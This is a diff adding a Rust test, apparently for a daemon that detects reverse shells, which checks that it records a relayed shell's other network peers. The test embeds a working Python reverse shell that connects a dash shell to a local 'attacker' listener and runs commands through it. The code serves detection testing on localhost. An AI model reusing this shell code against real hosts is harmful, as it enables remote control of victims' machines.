@@ -308,6 +308,37 @@ fn other_peers_of_its_network_namespace() {
     assert!(found.property("Process_Namespaces")["net"].is_string());
 }
 
+/// The relay of a shell is connected to somebody else as well: whoever told it to, or whom it goes on to.
+#[test]
+fn other_peers_of_the_relay() {
+    require!("python3", "dash");
+    let daemon = daemon();
+    let attacker = Listener::tcp();
+    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let code = format!(
+        "import socket, subprocess, threading\no = socket.create_connection(('127.0.0.1', {}))\n\
+         s = socket.create_connection(('127.0.0.1', {}))\n\
+         p = subprocess.Popen(['/usr/bin/dash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\n\
+         threading.Thread(target=lambda: [s.sendall(line) for line in p.stdout], daemon=True).start()\n\
+         while d := s.recv(4096):\n    p.stdin.write(d); p.stdin.flush()",
+        other.local_addr().unwrap().port(),
+        attacker.port()
+    );
+    let victim = Victim::start("python3", &["-c", &code]);
+    let mut session = attacker.accept();
+    session.run("id -u; uname -s");
+    let found = daemon.wait_for("the relayed shell", |record| {
+        record.peer_port() == Some(attacker.port()) && record.property("Relay_Peers").is_object()
+    });
+    let peers = found.property("Relay_Peers");
+    let peer = format!("127.0.0.1:{}", other.local_addr().unwrap().port());
+    let list = peers["peers"].as_array().unwrap();
+    assert!(list.iter().any(|one| one["protocol"] == "TCP" && one["peer"] == peer.as_str()), "{}", found.0);
+    // The tether itself is none of the others.
+    assert_eq!((list.len(), &peers["more"]), (1, &Value::Bool(false)), "{}", found.0);
+    drop((session, victim));
+}
+
 /// A launcher is another program a moment later, in other namespaces: whatever was read in time is the launcher's, the
 /// rest is the later program's and says so.
 #[test]
